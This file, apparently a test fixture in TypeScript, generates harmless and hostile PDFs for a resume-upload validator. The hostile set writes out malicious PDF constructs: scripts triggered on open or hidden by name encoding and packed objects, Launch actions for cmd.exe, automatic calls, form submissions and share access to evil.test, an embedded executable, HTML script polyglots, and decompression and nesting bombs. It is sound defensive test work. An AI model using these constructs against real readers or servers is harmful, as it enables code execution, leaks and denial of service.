@@ -1,0 +1,185 @@
+import { deflateSync } from "node:zlib";
+
+/** PDFs as visitors send them, and as attackers do; small, made here, the same in every run. */
+
+const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
+const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>";
+
+/** A stream of a PDF as an object is written; `dictionary` is what else it says of itself. */
+function stream(content: Buffer | string, dictionary = ""): Buffer {
+  const packed = deflateSync(content);
+  return Buffer.concat([
+    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode ${dictionary} >>\nstream\n`),
+    packed,
+    Buffer.from("\nendstream"),
+  ]);
+}
+
+interface PdfParts {
+  /** What the catalog says beside its pages. */
+  catalog?: string;
+  /** What the page says beside its size. */
+  page?: string;
+  /** Further objects, from number 5 on. */
+  objects?: (Buffer | string)[];
+  /** What the trailer says beside the root. */
+  trailer?: string;
+  /** Stands between the objects and the table. */
+  remark?: string;
+}
+
+/** A PDF of one page, with a table of references (ISO 32000-2, 7.5). */
+function pdfOf({ catalog = "", page: more = "", objects = [], trailer = "", remark }: PdfParts) {
+  const all = [
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+    pages,
+    page.replace(" >>", ` ${more} >>`),
+    stream("BT ET"),
+    ...objects,
+  ];
+  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
+  const places: number[] = [];
+  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
+  for (const [index, object] of all.entries()) {
+    places.push(length());
+    parts.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n"));
+  }
+  if (remark) parts.push(Buffer.from(`% ${remark}\n`));
+  const start = length();
+  const rows = places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("");
+  parts.push(
+    Buffer.from(
+      `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${rows}trailer\n<< /Size ${all.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
+    ),
+  );
+  return Buffer.concat(parts);
+}
+
+/** A PDF that anybody may send; texts make different ones. */
+export const pdf = (text = "resume"): Buffer => pdfOf({ remark: text });
+
+/** A PDF whose objects from number 5 on are in one packed stream of objects (ISO 32000-2, 7.5.7). */
+function pdfWithPacked(catalog: string, objects: string[], padding = 0): Buffer {
+  const starts = objects.map((_, at) => objects.slice(0, at).join(" ").length + (at ? 1 : 0));
+  const index = `${starts.map((start, at) => `${at + 5} ${start}`).join(" ")} `;
+  const content = `${index}${objects.join(" ")}${" ".repeat(padding)}`;
+  const plain = [
+    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
+    pages,
+    page.replace("/Contents 4 0 R", ""),
+    stream(content, `/Type /ObjStm /N ${objects.length} /First ${index.length}`),
+  ];
+  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
+  const rows: Buffer[] = [row(0, 0, 255)];
+  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
+  for (const [at, object] of plain.entries()) {
+    rows.push(row(1, length(), 0));
+    parts.push(Buffer.from(`${at + 1} 0 obj\n`), Buffer.from(object), Buffer.from("\nendobj\n"));
+  }
+  for (const at of objects.keys()) rows.push(row(2, 4, at));
+  const start = length();
+  const number = plain.length + objects.length + 1;
+  rows.push(row(1, start, 0));
+  const table = stream(
+    Buffer.concat(rows),
+    `/Type /XRef /Size ${number + 1} /W [1 4 1] /Root 1 0 R`,
+  );
+  parts.push(
+    Buffer.from(`${number} 0 obj\n`),
+    table,
+    Buffer.from(`\nendobj\nstartxref\n${start}\n%%EOF\n`),
+  );
+  return Buffer.concat(parts);
+}
+
+function row(kind: number, where: number, which: number): Buffer {
+  const bytes = Buffer.alloc(6);
+  bytes[0] = kind;
+  bytes.writeUInt32BE(where, 1);
+  bytes[5] = which;
+  return bytes;
+}
+
+const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>";
+const link = (action: string) =>
+  `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A ${action} >>]`;
+
+/** What resumes hold that does no harm, by what it is. */
+export const harmlessPdfs: Record<string, () => Buffer> = {
+  "a link": () => pdfOf({ page: link("<< /S /URI /URI (https://example.com/) >>") }),
+  "a place to open at": () => pdfOf({ catalog: "/OpenAction [3 0 R /XYZ null null 0]" }),
+  "a place to open at, as an action": () =>
+    pdfOf({ catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>" }),
+  "a field to fill in": () =>
+    pdfOf({
+      catalog: "/AcroForm << /Fields [5 0 R] >>",
+      objects: ["<< /FT /Tx /T (name) /Subtype /Widget /Rect [0 0 9 9] /P 3 0 R >>"],
+    }),
+  "objects that are packed": () => pdfWithPacked("/Names 5 0 R", ["<< /Dests 6 0 R >>", "<< >>"]),
+  "words that sound like a script": () => pdf("The JavaScript developer /JS of the year"),
+};
+
+/** PDFs that are refused, by what is wrong with them. */
+export const hostilePdfs: Record<string, () => Buffer> = {
+  "a PDF in name only": () => Buffer.from("%PDF-1.4 hello startxref 1 %%EOF"),
+  "a PDF that is damaged": () =>
+    Buffer.from(
+      pdf()
+        .toString("latin1")
+        .replace(/startxref\n\d+/, "startxref\n7"),
+      "latin1",
+    ),
+  "a PDF without a page": () =>
+    Buffer.from(pdf().toString("latin1").replace("[3 0 R] /Count 1", "[     ] /Count 0"), "latin1"),
+  "a PDF that asks for a password": () =>
+    pdfOf({
+      trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${"12".repeat(32)}> /U <${"34".repeat(32)}> >>`,
+    }),
+  "a PDF with a script when it opens": () => pdfOf({ catalog: `/OpenAction ${script}` }),
+  "a PDF with a script whose name is disguised": () =>
+    pdfOf({ catalog: `/OpenAction ${script.replaceAll("J", "#4a")}` }),
+  "a PDF with a script in a packed object": () => pdfWithPacked("/OpenAction 5 0 R", [script]),
+  "a PDF with a script when a page shows": () => pdfOf({ page: `/AA << /O ${script} >>` }),
+  "a PDF with a script behind a click": () => pdfOf({ page: link(script) }),
+  "a PDF with a script behind a place": () =>
+    pdfOf({ catalog: `/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${script}] >>` }),
+  "a PDF with a script by its name": () =>
+    pdfOf({ catalog: "/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", objects: [script] }),
+  "a PDF with a script that nothing refers to": () => pdfOf({ objects: [script] }),
+  "a PDF that starts a program": () =>
+    pdfOf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>" }),
+  "a PDF that starts a program after a click": () =>
+    pdfOf({ page: link("<< /S /Launch /Win << /F (cmd.exe) >> >>") }),
+  "a PDF that opens an address by itself": () =>
+    pdfOf({ catalog: "/OpenAction << /S /URI /URI (https://evil.test/) >>" }),
+  "a PDF that opens an address with its page": () =>
+    pdfOf({ page: "/AA << /O << /S /URI /URI (https://evil.test/) >> >>" }),
+  "a PDF that opens a file on a share": () =>
+    pdfOf({ page: "/AA << /O << /S /GoToR /F (\\\\\\\\evil.test\\\\a) /D [0 /Fit] >> >>" }),
+  "a PDF that sends a form": () =>
+    pdfOf({ page: link("<< /S /SubmitForm /F (https://evil.test/) >>") }),
+  "a PDF with a file in it": () =>
+    pdfOf({
+      catalog: "/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>",
+      objects: [
+        "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
+        stream("MZ", "/Type /EmbeddedFile"),
+      ],
+    }),
+  "a PDF with a file pinned to its page": () =>
+    pdfOf({ page: "/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] >>]" }),
+  "a PDF with a form of XML": () => pdfOf({ catalog: "/AcroForm << /Fields [] /XFA (x) >>" }),
+  "a PDF with a film": () => pdfOf({ page: "/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]" }),
+  "a PDF with a part from elsewhere": () =>
+    pdfOf({ objects: [stream("", "/F << /FS /URL /F (https://evil.test/) >>")] }),
+  "a PDF that is a page too": () => pdf("--><html><script>alert(1)</script>"),
+  "a PDF that is a page too, in a stream": () =>
+    pdfOf({ objects: ["<< /Length 25 >>\nstream\n<SCRIPT>alert(1)</SCRIPT>\nendstream"] }),
+  "a PDF whose packed objects are a bomb": () =>
+    pdfWithPacked("/Names 5 0 R", ["<< >>"], 250 * 1024 * 1024),
+  "a PDF of a million objects": () =>
+    pdfWithPacked("/Names 5 0 R", [`[${"<< /A /B >> ".repeat(2_000_000)}]`]),
+  "a PDF nested without an end": () => pdfOf({ catalog: `/X ${"[".repeat(1_000_000)}` }),
+  "a PDF whose pages run in a circle": () =>
+    Buffer.from(pdf().toString("latin1").replace("/Kids [3 0 R]", "/Kids [2 0 R]"), "latin1"),
+};
